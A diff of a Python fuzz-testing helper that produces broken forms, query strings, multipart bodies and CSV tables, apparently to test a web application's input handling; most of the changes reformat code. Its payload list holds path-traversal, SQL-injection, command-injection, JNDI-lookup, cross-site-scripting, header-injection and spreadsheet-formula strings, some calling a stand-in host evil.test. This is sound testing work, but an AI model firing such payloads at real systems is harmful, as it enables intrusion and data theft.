@@ -7,17 +7,95 @@ from random import Random
 from urllib.parse import quote, quote_from_bytes
 
 NASTY = (
-    *("", " ", ".", "..", "../..", "../../../etc/passwd", "..\\..\\boot.ini", "C:\\x", "~root", "-rf"),
-    *("%2e%2e%2f", "%252e%252e%252f", "..%c0%af..", "%00", "%0d%0aSet-Cookie: a=b", "\r\nX: y", "\0"),
+    *(
+        "",
+        " ",
+        ".",
+        "..",
+        "../..",
+        "../../../etc/passwd",
+        "..\\..\\boot.ini",
+        "C:\\x",
+        "~root",
+        "-rf",
+    ),
+    *(
+        "%2e%2e%2f",
+        "%252e%252e%252f",
+        "..%c0%af..",
+        "%00",
+        "%0d%0aSet-Cookie: a=b",
+        "\r\nX: y",
+        "\0",
+    ),
     *("a\0b", "\x1b[31m", "\x07", "\x7f", "\u202eevil", "\u2066x", "\ufeff", "\u200b", "\ufffe"),
-    *("é" * 40, "e" + "\u0301" * 300, "\U0001f600" * 30, "１２３４５６", "İ", "ß", "ﷺ" * 20, "𝕒𝕕𝕞𝕚𝕟"),
-    *("' OR 1=1 --", "'; DROP TABLE people; --", '" OR ""="', "1) UNION ALL VALUES (1", "\\'", "%' ESCAPE '"),
-    *("%s%s%n", "%(x)s", "{0}", "{0.__class__.__mro__}", "{minutes}", "{{7*7}}", "{% raw %}", "${7*7}"),
-    *("${jndi:ldap://evil.test/a}", "$(id)", "`id`", "; id", "| id", "&& id", "<!--#exec cmd='id'-->"),
-    *("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' autofocus onfocus='alert(1)"),
-    *("![t](https://evil.test/p.png)", "[go](javascript:alert(1))", "<svg/onload=alert(1)>", "&lt;b&gt;"),
-    *("javascript:alert(1)", "data:text/html,<b>x", "https://evil.test", "//evil.test", "/\\evil.test"),
-    *("=cmd|'/c calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "null", "None", "undefined", "NaN", "true"),
+    *(
+        "é" * 40,
+        "e" + "\u0301" * 300,
+        "\U0001f600" * 30,
+        "１２３４５６",
+        "İ",
+        "ß",
+        "ﷺ" * 20,
+        "𝕒𝕕𝕞𝕚𝕟",
+    ),
+    *(
+        "' OR 1=1 --",
+        "'; DROP TABLE people; --",
+        '" OR ""="',
+        "1) UNION ALL VALUES (1",
+        "\\'",
+        "%' ESCAPE '",
+    ),
+    *(
+        "%s%s%n",
+        "%(x)s",
+        "{0}",
+        "{0.__class__.__mro__}",
+        "{minutes}",
+        "{{7*7}}",
+        "{% raw %}",
+        "${7*7}",
+    ),
+    *(
+        "${jndi:ldap://evil.test/a}",
+        "$(id)",
+        "`id`",
+        "; id",
+        "| id",
+        "&& id",
+        "<!--#exec cmd='id'-->",
+    ),
+    *(
+        "<script>alert(1)</script>",
+        '"><img src=x onerror=alert(1)>',
+        "' autofocus onfocus='alert(1)",
+    ),
+    *(
+        "![t](https://evil.test/p.png)",
+        "[go](javascript:alert(1))",
+        "<svg/onload=alert(1)>",
+        "&lt;b&gt;",
+    ),
+    *(
+        "javascript:alert(1)",
+        "data:text/html,<b>x",
+        "https://evil.test",
+        "//evil.test",
+        "/\\evil.test",
+    ),
+    *(
+        "=cmd|'/c calc'!A0",
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1",
+        "null",
+        "None",
+        "undefined",
+        "NaN",
+        "true",
+    ),
     *("0", "-1", "9" * 400, "1e309", "0x10", "x" * 5000, "[]", "{}", "__proto__", "constructor"),
 )
 """Words that broke other programs."""
@@ -57,7 +135,9 @@ class Pest:
             for _ in range(self.chance.randrange(1, 4))
         ]
         joined = self.one_of("&", "&", ";", "&&").join(pairs).encode()
-        return joined + self.one_of(b"", b"", b"&=", b"%", b"%zz", quote_from_bytes(self.raw()).encode())
+        return joined + self.one_of(
+            b"", b"", b"&=", b"%", b"%zz", quote_from_bytes(self.raw()).encode()
+        )
 
     def encoded(self, word: str) -> str:
         """Return a word as it stands in an address, now and then encoded twice."""
@@ -74,7 +154,9 @@ class Pest:
         return self._pairs(fields | more) + self.one_of(*ends)
 
     def _pairs(self, fields: dict[str, str]) -> bytes:
-        return "&".join(f"{quote(name)}={self.encoded(value)}" for name, value in fields.items()).encode()
+        return "&".join(
+            f"{quote(name)}={self.encoded(value)}" for name, value in fields.items()
+        ).encode()
 
     def body_of_form(self, right: dict[str, str]) -> tuple[bytes, bytes]:
         """Return a body and its content type, of which the one may not fit the other."""
@@ -82,12 +164,15 @@ class Pest:
         kind = self.chance.randrange(12)
         if kind < 8:
             return self.form(right), plain
-        part = b'--x\r\nContent-Disposition: form-data; name="email"; filename="../x.sh"\r\n\r\na\r\n--x--'
+        part = b'--x\r\nContent-Disposition: form-data; name="email"\r\n\r\na\r\n--x--'
         return self.one_of(
             (part, many),
             (part, b"multipart/form-data"),
             (json.dumps(right).encode(), b"application/json"),
-            (self.form(right), self.one_of(b"", b"\xff", b"text/html", plain + b"; charset=utf-16")),
+            (
+                self.form(right),
+                self.one_of(b"", b"\xff", b"text/html", plain + b"; charset=utf-16"),
+            ),
             (self.form(right), many),
             (self.raw(200), plain),
             (b"a=" + b"x" * 20_000, plain),
@@ -102,7 +187,9 @@ class Pest:
 
     def table(self) -> bytes:
         """Return a list of people in which something is wrong, or nothing."""
-        first = self.one_of(*["name,email,role"] * 6, "email,name", "name;email;role", "", self.word())
+        first = self.one_of(
+            *["name,email,role"] * 6, "email,name", "name;email;role", "", self.word()
+        )
         cells = [
             [
                 self.one_of("Carla", self.word()),
@@ -122,5 +209,7 @@ class Pest:
         if kind == 1:
             return table.encode("utf-16", "replace")
         if kind == 2:
-            return table.encode() + self.one_of(b"\xff", b"\0", b'"', b"\n" * 5000, b",a@b.cc,\nx" * 20_000)
+            return table.encode() + self.one_of(
+                b"\xff", b"\0", b'"', b"\n" * 5000, b",a@b.cc,\nx" * 20_000
+            )
         return table.encode()
